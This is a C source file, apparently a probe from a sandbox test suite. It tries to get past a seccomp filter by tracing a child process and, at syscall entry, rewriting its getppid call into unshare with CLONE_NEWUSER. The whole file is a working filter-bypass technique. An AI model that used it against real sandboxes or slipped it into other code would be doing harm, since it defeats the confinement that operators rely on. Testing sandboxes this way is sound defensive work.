// wall: seccomp  overlaps: user-limit  source: RT-19
// Rewrites the number of a traced child's system call after its entry stop, to pass the filter.
#include <sched.h>
#include <sys/ptrace.h>
#include <sys/user.h>

#include "attack.h"

int main(void) {
  pid_t child = fork();
  if (child < 0) return Cannot("fork");
  if (child == 0) {
    if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) _exit(2);
    raise(SIGSTOP);
    long result = syscall(SYS_getppid, (unsigned long)CLONE_NEWUSER);  // becomes unshare
    _exit(result == 0 ? 0 : 1);
  }
  int status = 0;
  waitpid(child, &status, 0);
  if (WIFEXITED(status)) return Stopped("PTRACE_TRACEME");
  ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL);
  while (1) {
    if (ptrace(PTRACE_SYSCALL, child, 0, 0) != 0) return Stopped("PTRACE_SYSCALL");
    if (waitpid(child, &status, 0) != child) return Cannot("waitpid");
    if (WIFEXITED(status) || WIFSIGNALED(status)) break;
    struct user_regs_struct regs;
    ptrace(PTRACE_GETREGS, child, 0, &regs);
    if (regs.orig_rax == SYS_getppid) {
      regs.orig_rax = SYS_unshare;
      ptrace(PTRACE_SETREGS, child, 0, &regs);
    }
  }
  errno = EPERM;
  return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? Succeeded("unshare by rewriting")
                                                       : Stopped("unshare by rewriting");
}
